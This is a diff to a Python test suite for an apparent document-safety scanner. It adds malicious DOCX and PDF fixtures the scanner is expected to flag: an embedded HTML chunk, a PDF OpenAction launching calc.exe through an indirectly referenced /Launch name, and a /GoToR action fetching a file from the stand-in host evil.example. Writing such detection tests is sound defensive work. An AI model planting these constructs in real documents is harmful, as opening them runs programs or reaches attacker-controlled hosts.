@@ -109,6 +109,7 @@ BROKEN: dict[str, tuple[bytes, str]] = {
     "macros": (docx("x", **{"word/vbaProject.bin": b"\0"}), "macros"),
     "an embedded workbook": (docx("x", **{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "hidden inside"),
     "a program as a picture": (docx("x", **{"word/media/a.png": b"MZ" + b"\0" * 60 + b"This program cannot"}), "hidden inside"),
+    "a page that Word takes in": (docx("x", **{"word/afchunk.htm": "<html>STG. GEHEIM</html>"}), "hidden inside"),
     "a template elsewhere": (
         docx(
             "x",
@@ -172,6 +173,18 @@ def launch(writer: PdfWriter) -> None:
     writer._root_object[NameObject("/OpenAction")] = action
 
 
+def launch_named_elsewhere(writer: PdfWriter) -> None:
+    """The name of the action is an object of its own."""
+    name = writer._add_object(NameObject("/Launch"))
+    action = DictionaryObject({NameObject("/S"): name, NameObject("/F"): TextStringObject("calc.exe")})
+    writer._root_object[NameObject("/OpenAction")] = action
+
+
+def file_of_elsewhere(writer: PdfWriter) -> None:
+    action = {"/S": NameObject("/GoToR"), "/F": TextStringObject("//evil.example/share/a.pdf")}
+    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({NameObject(key): value for key, value in action.items()})
+
+
 def attachment(writer: PdfWriter) -> None:
     writer.add_attachment("a.txt", b"hello")
 
@@ -191,6 +204,8 @@ def a_word_in_a_note(writer: PdfWriter) -> None:
     [
         (javascript, "holds a script"),
         (launch, "starts or sends something"),
+        (launch_named_elsewhere, "starts or sends something"),
+        (file_of_elsewhere, "starts or sends something"),
         (attachment, "carries other files"),
         (password, "has a password"),
         (a_word_in_a_note, "“STG. GEHEIM”"),
